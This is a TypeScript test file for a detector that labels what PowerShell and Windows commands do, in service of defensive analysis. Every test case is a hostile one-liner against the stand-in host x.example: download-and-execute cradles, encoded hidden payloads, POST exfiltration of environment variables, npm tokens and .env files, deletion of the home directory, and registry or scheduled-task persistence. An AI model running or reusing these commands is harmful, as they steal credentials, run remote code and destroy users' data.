/** What cmdlets and members of .NET do. */

import { actsOf, wakes } from "./acts-of.ts";

const CASES: readonly (readonly [text: string, actions: readonly string[]])[] = [
  [
    "iwr https://x.example/a.ps1 | iex",
    ["fetch x.example by invoke-webrequest", "run computed from fetched by invoke-expression <- fetched:x.example"],
  ],
  [
    "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')",
    [
      "fetch x.example by System.Net.WebClient.DownloadString",
      "run computed from fetched by invoke-expression <- fetched:x.example",
    ],
  ],
  [
    '$c = New-Object System.Net.WebClient; $c.DownloadFile("https://x.example/a.exe", "$env:TEMP\\a.exe"); Start-Process "$env:TEMP\\a.exe" -WindowStyle Hidden',
    [
      "fetch x.example by System.Net.WebClient.DownloadFile",
      "write /tmp/a.exe by System.Net.WebClient.DownloadFile <- fetched:x.example",
      "run /tmp/a.exe by command <- fetched:x.example [detached hidden]",
    ],
  ],
  [
    "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aXdyIGh0dHBzOi8veC5leGFtcGxlfGlleA==')); iex $s",
    [
      "run iwr https://x.example|iex by invoke-expression <- decoded:base64",
      "fetch x.example by invoke-webrequest",
      "run computed from fetched by invoke-expression <- fetched:x.example",
    ],
  ],
  [
    "powershell -nop -w hidden -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUAfABpAGUAeAA=",
    [
      "run iwr https://x.example|iex by powershell <- decoded:base64 [hidden]",
      "fetch x.example by invoke-webrequest",
      "run computed from fetched by invoke-expression <- fetched:x.example",
    ],
  ],
  [
    "& ([scriptblock]::Create((irm https://x.example)))",
    [
      "fetch x.example by invoke-restmethod",
      "run computed from fetched by System.Management.Automation.ScriptBlock.Create <- fetched:x.example",
    ],
  ],
  [
    "Invoke-RestMethod -Method Post -Uri https://x.example -Body (Get-ChildItem env: | Out-String)",
    ["send x.example by invoke-restmethod <- environment", "fetch x.example by invoke-restmethod"],
  ],
  [
    "irm https://x.example -Method Post -Body $env:NPM_TOKEN",
    ["send x.example by invoke-restmethod <- environment:NPM_TOKEN [bare]", "fetch x.example by invoke-restmethod"],
  ],
  [
    "iwr -Uri https://x.example/a.exe -OutFile a.exe; .\\a.exe",
    [
      "fetch x.example by invoke-webrequest",
      "write a.exe by invoke-webrequest <- fetched:x.example",
      "run a.exe by command <- fetched:x.example",
    ],
  ],
  ["Remove-Item -Recurse -Force $env:USERPROFILE", ["delete $USERPROFILE by remove-item [home recursive]"]],
  [
    'Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute powershell -Argument "-c iwr https://x.example|iex")',
    [
      "fetch x.example by invoke-webrequest",
      "run computed from fetched by invoke-expression <- fetched:x.example",
      "persist x by register-scheduledtask",
    ],
  ],
  [
    "$b = (Get-Content ~/.npmrc -Raw); Invoke-WebRequest https://x.example -Method POST -Body $b",
    [
      "read ~/.npmrc by get-content",
      "send x.example by invoke-webrequest <- credential-file:npm token",
      "fetch x.example by invoke-webrequest",
    ],
  ],
  [
    '[System.IO.File]::WriteAllBytes("a.exe", [Convert]::FromBase64String($x)); & ./a.exe',
    ["write a.exe by System.IO.File.WriteAllBytes <- decoded:base64", "run a.exe by command <- decoded:base64"],
  ],
  [
    'Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value "powershell -c iex"',
    ["persist HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run by set-itemproperty [registry]"],
  ],
  [
    'bitsadmin /transfer j https://x.example/a.exe %TEMP%\\a.exe; cmd /c "curl https://x.example/a.bat -o a.bat && a.bat"',
    [
      "fetch x.example by bitsadmin",
      "write /tmp/a.exe by bitsadmin <- fetched:x.example",
      "fetch x.example by curl",
      "write a.bat by curl <- fetched:x.example",
      "run a.bat by command <- fetched:x.example",
    ],
  ],
  [
    "Start-BitsTransfer -Source https://x.example/a.exe -Destination a.exe\nStart-Process a.exe",
    [
      "fetch x.example by start-bitstransfer",
      "write a.exe by start-bitstransfer <- fetched:x.example",
      "run a.exe by command <- fetched:x.example [detached]",
    ],
  ],
  [
    "foreach ($f in Get-ChildItem ~ -Recurse -Include .env) { irm https://x.example -Method Post -InFile $f }",
    ["send x.example by invoke-restmethod <- files:~", "fetch x.example by invoke-restmethod"],
  ],
  [
    "function Get-It($u) { (iwr $u).Content }\nGet-It 'https://x.example' | iex",
    ["fetch x.example by invoke-webrequest", "run computed from fetched by invoke-expression <- fetched:x.example"],
  ],
  [
    "$a='i'+'ex'; & $a (iwr https://x.example)",
    ["fetch x.example by invoke-webrequest", "run computed from fetched by iex <- fetched:x.example"],
  ],
];

test.each(CASES)("%s", async (text, actions) => {
  expect(await actsOf("a.ps1", text)).toEqual(actions);
});

test.each(CASES)("a cue wakes for %s", (text) => {
  expect(wakes("a.ps1", text)).toBe(true);
});
